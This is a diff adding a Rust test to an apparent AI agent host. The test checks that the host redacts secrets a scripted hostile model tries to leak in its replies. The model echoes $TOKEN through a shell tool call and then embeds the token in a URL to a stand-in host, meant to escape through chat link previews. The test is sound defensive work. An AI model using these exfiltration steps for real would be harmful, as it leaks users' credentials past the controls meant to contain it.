@@ -809,3 +809,39 @@ async fn the_model_key_is_a_secret_used_by_the_host_only() {
         .await;
     assert!(!env.status.success());
 }
+
+// A reply is an egress path too: a chat platform fetches the URLs in it for link previews,
+// past every allowlist. A hostile model puts a placeholder, or a value it was shown some
+// other way, into its answer.
+#[tokio::test]
+async fn a_reply_carrying_a_placeholder_or_a_value_is_withheld_and_audited() {
+    let model = ScriptedModel::start(Wire::Anthropic, vec![]).await;
+    let s = setup(&model.url, "").await;
+    model.push(vec![
+        Step::Tools(vec![(
+            "shell".into(),
+            r#"{"command": "echo $TOKEN"}"#.into(),
+        )]),
+        Step::EchoToolResult,
+    ]);
+    let out = s.home.run(&["ask", "--group", "work", "show it"]).await;
+    let reply = text(&out.stdout);
+    assert!(!reply.contains("NANOCLAW_SECRET_TOKEN"), "{reply}");
+    assert!(reply.contains("[withheld secret TOKEN]"), "{reply}");
+    assert!(reply.contains("nanoclaw withheld secrets"), "{reply}");
+
+    model.push(vec![Step::Text(format!(
+        "see https://anywhere.example/?d={TOKEN}"
+    ))]);
+    let out = s.home.run(&["ask", "--group", "work", "again"]).await;
+    let reply = text(&out.stdout);
+    assert_no_value(&reply);
+    assert!(reply.contains("?d=[withheld secret TOKEN]"), "{reply}");
+
+    let events = s
+        .home
+        .run(&["audit", "show", "--kind", "reply_withheld"])
+        .await;
+    let events = text(&events.stdout);
+    assert_eq!(events.matches("reply_withheld").count(), 2, "{events}");
+}
